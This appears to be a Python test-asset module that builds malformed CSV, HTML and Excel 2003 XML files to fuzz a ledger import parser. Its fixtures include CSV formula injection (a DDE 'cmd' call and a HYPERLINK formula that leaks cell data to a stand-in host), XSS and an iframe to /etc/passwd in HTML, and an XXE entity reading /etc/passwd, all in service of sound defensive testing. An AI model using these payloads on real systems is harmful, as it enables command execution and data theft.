"""Text that means to be a table: CSV, web pages, XML of Excel 2003, each damaged in its own way."""

import random

from tests.assets.bad_files.kinds import EITHER, GOOD, REFUSED, Kinds, flipped, numbered, table
from tests.assets.ledger.other_files import as_html, as_text, as_xml

KINDS = Kinds()


@KINDS.kind(GOOD)
def named_like_a_workbook(chance: random.Random) -> tuple[str, bytes]:
    """a CSV or a web page under the name of a workbook"""
    rows = numbered(table(chance))
    encoding, separator = chance.choice(
        (("gb18030", ","), ("utf-8-sig", ";"), ("utf-16", "\t"), ("utf-8", "|"))
    )
    return "台账.xlsx", chance.choice((as_text(rows, encoding, separator), as_html(rows)))


@KINDS.kind(GOOD)
def quote_never_closed(chance: random.Random) -> tuple[str, bytes]:
    """a CSV with one quote too many: what follows must not vanish into one cell"""
    lines = as_text(numbered(table(chance)), "utf-8").decode().splitlines(keepends=True)
    row = chance.randint(1, 4)
    cells = lines[row].split(",")
    cells[7] = f'"{cells[7]}'
    lines[row] = ",".join(cells)
    return "台账.csv", "".join(lines).encode(chance.choice(("utf-8", "gb18030")))


@KINDS.kind(EITHER)
def two_encodings(chance: random.Random) -> tuple[str, bytes]:
    """a CSV put together from files in GB18030 and UTF-8"""
    rows = numbered(table(chance))
    return "台账.csv", as_text(rows[:3]) + as_text(rows[3:], "utf-8")


@KINDS.kind(EITHER)
def nonsense_in_text(chance: random.Random) -> tuple[str, bytes]:
    """a CSV with flipped bits"""
    content = as_text(numbered(table(chance)), chance.choice(("gb18030", "utf-8", "utf-16")))
    return "台账.csv", flipped(content, chance, chance.choice((1, 5, 40)))


@KINDS.kind(GOOD)
def padded_with_nothing(chance: random.Random) -> tuple[str, bytes]:
    """a CSV whose end a full disk filled with NULs"""
    return "台账.csv", as_text(numbered(table(chance))) + bytes(chance.choice((1, 500, 5000)))


@KINDS.kind(EITHER)
def cut_inside_a_character(chance: random.Random) -> tuple[str, bytes]:
    """a CSV that stops in the middle of a character"""
    encoding = chance.choice(("gb18030", "utf-8", "utf-16"))
    content = as_text(numbered(table(chance)), encoding)
    return "台账.csv", content[: chance.randint(len(content) // 2, len(content) - 1)]


@KINDS.kind(EITHER)
def one_line(chance: random.Random) -> tuple[str, bytes]:
    """a CSV whose only line is a million cells, or a cell of a million characters"""
    head = as_text(numbered(table(chance)), "utf-8")
    return "台账.csv", head + chance.choice(("1," * 500_000, "公" * 400_000, '"' + "a\n" * 20_000)).encode()


@KINDS.kind(EITHER)
def only_quotes(chance: random.Random) -> tuple[str, bytes]:
    """a CSV in which every line opens a quote that none closes"""
    return "台账.csv", as_text(numbered(table(chance)), "utf-8") + b'1,"a\n' * chance.choice((100, 20_000))


@KINDS.kind(GOOD)
def formulas_in_text(chance: random.Random) -> tuple[str, bytes]:
    """a CSV with cells that would be run: commands, links, sums"""
    rows = [list(row) for row in table(chance)]
    evil = ("=cmd|'/C calc'!A0", '=HYPERLINK("http://x/?"&A1,"点")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1")
    for row in rows[1:]:
        row[7] = chance.choice(evil)
    return "台账.csv", as_text(numbered([tuple(row) for row in rows]))


@KINDS.kind(GOOD)
def page_without_ends(chance: random.Random) -> tuple[str, bytes]:
    """a web page that closes nothing"""
    page = as_html(numbered(table(chance)), encoding="utf-8").decode()
    for tag in chance.choice(
        (("</td>",), ("</td>", "</tr>"), ("</td>", "</tr>", "</table>", "</body>", "</html>"))
    ):
        page = page.replace(tag, "")
    return "台账.xls", page.encode()


@KINDS.kind(REFUSED)
def tables_in_tables(chance: random.Random) -> tuple[str, bytes]:
    """a web page of tables inside each other, hundreds deep"""
    depth = chance.choice((100, 20_000))
    return "台账.xls", b"<html>" + b"<table><tr><td>" * depth + b"</td></tr></table>" * depth


@KINDS.kind(EITHER)
def endless_spans(chance: random.Random) -> tuple[str, bytes]:
    """a web page with cells that reach over millions of rows and columns"""
    page = as_html(numbered(table(chance)), encoding="utf-8").decode()
    spans = 'rowspan="99999999" colspan="99999999"', 'rowspan="-1" colspan="x"', "rowspan=1000 colspan=0"
    return "台账.xls", page.replace("<td", f"<td {chance.choice(spans)}", chance.randint(1, 40)).encode()


@KINDS.kind(EITHER)
def torn_page(chance: random.Random) -> tuple[str, bytes]:
    """a web page full of torn tags, quotes and comments"""
    tear = chance.choice(
        (
            "<td <td <td '",
            "<!-- ",
            "<![CDATA[ ",
            '<a b="',
            "<" * 50_000,
            "</" + "a" * 90_000,
            "&#xD800;&#0;&amp",
        )
    )
    page = as_html(numbered(table(chance)), encoding="utf-8").decode()
    at = chance.randint(60, len(page))
    return "台账.xls", (page[:at] + tear * chance.choice((1, 30)) + page[at:]).encode()


@KINDS.kind(EITHER)
def page_with_scripts(chance: random.Random) -> tuple[str, bytes]:
    """a web page with scripts, frames and pictures of other places"""
    evil = '<script>alert("<td>x</td>")</script><iframe src="file:///etc/passwd"></iframe><img src=x onerror=alert(1)>'
    page = as_html(numbered(table(chance)), encoding="utf-8").decode()
    return "台账.xls", page.replace(
        "<table>", chance.choice((evil, evil + "<base href=//x>")) + "<table>"
    ).encode()


@KINDS.kind(REFUSED)
def old_xml_with_entities(chance: random.Random) -> tuple[str, bytes]:
    """Excel 2003's XML with entities of its own"""
    entity = chance.choice(('<!ENTITY x SYSTEM "file:///etc/passwd">', '<!ENTITY x "y">'))
    text = as_xml(numbered(table(chance))).decode()
    return "台账.xls", text.replace("<Workbook", f"<!DOCTYPE Workbook [{entity}]><Workbook", 1).encode()


@KINDS.kind(REFUSED)
def old_xml_cut_short(chance: random.Random) -> tuple[str, bytes]:
    """Excel 2003's XML that stops"""
    content = as_xml(numbered(table(chance)))
    return "台账.xls", content[: chance.randint(200, len(content) - 20)]


@KINDS.kind(REFUSED)
def old_xml_with_odd_places(chance: random.Random) -> tuple[str, bytes]:
    """Excel 2003's XML with places no sheet has"""
    text = as_xml(numbered(table(chance))).decode()
    place = chance.choice(("-1", "99999999999", "x", "", "1.5"))
    return "台账.xls", text.replace('ss:Index="2"', f'ss:Index="{place}"', chance.randint(1, 3)).encode()


@KINDS.kind(EITHER)
def old_xml_flipped(chance: random.Random) -> tuple[str, bytes]:
    """Excel 2003's XML with flipped bits"""
    return "台账.xls", flipped(as_xml(numbered(table(chance))), chance, chance.choice((1, 4)), start=300)
